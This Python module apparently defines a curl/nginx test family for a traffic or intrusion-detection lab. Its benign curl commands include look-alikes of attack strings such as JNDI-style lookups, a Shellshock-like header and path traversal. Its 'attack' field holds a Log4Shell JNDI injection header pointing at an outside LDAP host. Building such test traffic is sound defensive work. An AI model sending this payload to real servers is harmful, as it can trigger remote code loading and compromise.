# SPDX-License-Identifier: Apache-2.0
"""curl and nginx: HTTP/1.0, HTTP/1.1, HTTP/2 and TLS."""
import subprocess

from family import SERVER_ADDRESS, Family, Lab, folder_of, serve

SETTINGS = """
daemon off;
worker_processes 1;
user root;
pid {folder}/nginx.pid;
error_log {folder}/error.log;
events {{}}
http {{
  access_log off;
  default_type application/octet-stream;
  gzip on;
  gzip_types text/plain application/json;
  client_max_body_size 20m;
  large_client_header_buffers 8 64k;
  client_body_temp_path {folder}/body;
  proxy_temp_path {folder}/proxy;
  fastcgi_temp_path {folder}/fastcgi;
  uwsgi_temp_path {folder}/uwsgi;
  scgi_temp_path {folder}/scgi;
  ssl_certificate {folder}/cert.pem;
  ssl_certificate_key {folder}/key.pem;
  server {{
    listen {address}:80;
    listen {address}:8080 http2;
    listen {address}:443 ssl http2;
    root {folder}/pages;
    location /echo {{ proxy_pass http://{address}:81; proxy_http_version 1.1; }}
    location /upload {{ proxy_pass http://{address}:81; proxy_request_buffering off; proxy_http_version 1.1; }}
    location /old {{ return 301 /index.html; }}
  }}
  server {{
    listen {address}:81;
    location / {{ client_max_body_size 20m; add_header Allow "GET, HEAD, OPTIONS, POST" always; return 200 "$request_method $request_uri\\n"; }}
  }}
}}
"""


def start(lab: Lab) -> None:
    folder = folder_of(lab, "nginx")
    (folder / "pages").mkdir()
    (folder / "pages" / "index.html").write_text("<html><body>An ordinary page.</body></html>\n" * 50)
    (folder / "pages" / "data.json").write_text('{"name": "${user.name}", "path": "C:\\\\dir"}\n' * 2000)
    (folder / "pages" / "disk.img").write_bytes(bytes(range(256)) * 8000)
    subprocess.run(["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-subj", "/CN=www.example.test", "-days", "30", "-keyout",
                    str(folder / "key.pem"), "-out", str(folder / "cert.pem")], check=True, capture_output=True)
    (folder / "nginx.conf").write_text(SETTINGS.format(folder=folder, address=SERVER_ADDRESS))
    (lab.folder / "client" / ".curlrc").write_text("silent\nshow-error\ninsecure\nmax-time = 10\n")
    serve(lab, 80, "nginx", "-p", str(folder), "-e", f"{folder}/error.log", "-c", f"{folder}/nginx.conf")


COMMANDS = r"""
curl -f http://$SERVER/
curl -f -o a -o b -o c http://$SERVER/ http://$SERVER/data.json http://$SERVER/disk.img
curl -f -I http://$SERVER/index.html
curl -f --http1.0 http://$SERVER/
curl -f --http2 http://$SERVER:80/
curl -f --http2-prior-knowledge http://$SERVER:8080/disk.img -o c
curl -f --http2-prior-knowledge -H 'Cookie: a=b; c=d' -r 0-9,20-29 http://$SERVER:8080/data.json
curl -f -Z https://$SERVER/{index.html,data.json,disk.img}?[1-5] -o 'p#2'
curl -f --http2-prior-knowledge -H "X-Long: $(printf %9000s | tr ' ' a)" -d name=value http://$SERVER:8080/echo
curl -f https://$SERVER/ https://$SERVER/disk.img -o a -o b
curl -f --http1.1 --tls-max 1.2 https://$SERVER/
curl -f -r 0-99 http://$SERVER/disk.img | wc -c | grep -q 100
curl -f -r 0-0,10-20,-5 http://$SERVER/disk.img -o r
curl -f -r 100- http://$SERVER/disk.img -o r
curl -f -r 0-18446744073709551614 http://$SERVER/index.html; test $? = 0 -o $? = 22
curl -f -r $(seq -s, 0 1000 15000 | sed 's/\([0-9]*\)/\1-\1/g') http://$SERVER/disk.img -o r
curl -f -r $(for i in $(seq 0 150); do printf '%s%d-%d' "$comma" $((i*100)) $((i*100+9)); comma=,; done) http://$SERVER/disk.img -o r
curl -f -C 500000 http://$SERVER/disk.img -o r
curl -f -H "X-Long: $(printf %15000s | tr ' ' a)" http://$SERVER/
curl -f -H "Cookie: session=$(printf %3000s | tr ' ' c); theme=dark; list=[1,2,3]; f=() ; BEResource-Hint=none" http://$SERVER/
curl -f "http://$SERVER/?q=$(printf %5000s | tr ' ' q)"
curl -f -g "http://$SERVER/index.html?id=5&class.name=math&name[0]=a&name[1]=b&filter[title]=x&array[]=1"
curl -f "http://$SERVER/index.html?q=%E3%83%91%E3%83%83%E3%83%81%20100%25&path=..%2Fup&next=http%3A%2F%2Fwww.example.test%2F"
curl -f --path-as-is http://$SERVER/pages/../index.html; test $? = 0 -o $? = 22
curl -f http://$SERVER/a%20page%20with%20blanks.html; test $? = 22
curl -f http://$SERVER/search.idq?CiTemplate=/search.htx\&CiRestriction=$(printf %150s | tr ' ' w); test $? = 22
curl -f http://$SERVER/index.php?-; test $? = 22
curl -f "http://$SERVER/index.php?a+b"; test $? = 22
curl -f http://$SERVER/shop.jsp; test $? = 22
curl -f -d 'name=Anna&comment=a+{b}+c+$%7Bd%7D&price=%24%7Bprice%7D' http://$SERVER/echo
curl -f -d "$(for i in $(seq 3000); do printf 'item%d=%d&' $i $i; done)" http://$SERVER/echo
curl -f -d 'user[first]=Anna&user[last]=B&name[0]=a&name[]=b' http://$SERVER/cms; test $? = 22
curl -f -H 'Content-Type: application/json' -d '{"log": "${date:now}", "template": "#{x} ${env:HOME} ${lower:ABC}", "jndi": "java naming"}' http://$SERVER/echo
curl -f -H 'Content-Type: application/json; charset="utf-8"' -d @b http://$SERVER/echo
curl -f -F file=@c -F 'note=see the file' -F 'list[0]=x' -F 'picture=@b;type=image/png;filename=a picture.png' http://$SERVER/echo
curl -f -H 'Transfer-Encoding: chunked' --data-binary @c http://$SERVER/upload
head -c 3000000 /dev/urandom | curl -f -T - http://$SERVER/upload
curl -f -T c http://$SERVER/upload/report.jsp.txt
curl -f -H 'Expect: 100-continue' --data-binary @c http://$SERVER/upload
curl -f -X OPTIONS http://$SERVER/echo
curl -f -X OPTIONS --request-target '*' http://$SERVER:81/; test $? = 0 -o $? = 22
curl -X PROPFIND -H 'Depth: 1' -H 'If: (<opaquelocktoken:f81d4fae-7dec-11d0-a765-00a0c91e6bf6>)' http://$SERVER/
curl -X LOCK -H 'Translate: f' -H 'Timeout: Infinite' -d '<?xml version="1.0"?><lockinfo/>' http://$SERVER/report.docx
curl -f --compressed http://$SERVER/data.json
curl -f -H 'Accept-Encoding: gzip;q=1.0, deflate;q=0.5, *;q=0' http://$SERVER/data.json -o z
curl -f -A 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36' -e http://$SERVER/ http://$SERVER/
curl -f -H 'X-Function: f() { return; }' -H 'Accept: text/html,application/xhtml+xml,*/*;q=0.8' http://$SERVER/
curl -u anna:secret http://$SERVER/
curl --digest -u anna:secret http://$SERVER/
curl -H 'Authorization: Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln' http://$SERVER/
curl -fL http://$SERVER/old
curl -f -x http://$SERVER:80 http://www.example.test/
curl -f -z '2020-01-01' http://$SERVER/ -H 'If-None-Match: "abc", W/"def"'
curl -H 'Connection: Upgrade' -H 'Upgrade: websocket' -H 'Sec-WebSocket-Version: 13' -H 'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==' http://$SERVER/
curl -H 'Content-Type: multipart/form-data; boundary=x' --data-binary $'--x\r\nContent-Disposition: form-data; name="a"; filename="report {final}.txt"\r\n\r\nbody\r\n--x--\r\n' http://$SERVER/echo
curl -d '<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body/></soap:Envelope>' -H 'SOAPAction: "urn:x"' http://$SERVER/echo
"""

FAMILY = Family(programs=("nginx", "curl", "openssl"), start=start, protocols=("http", "http2", "tls"), commands=COMMANDS,
                attack="curl -H 'X-Api-Version: ${jndi:ldap://198.18.0.9/a}' http://$SERVER/", found=9104000)
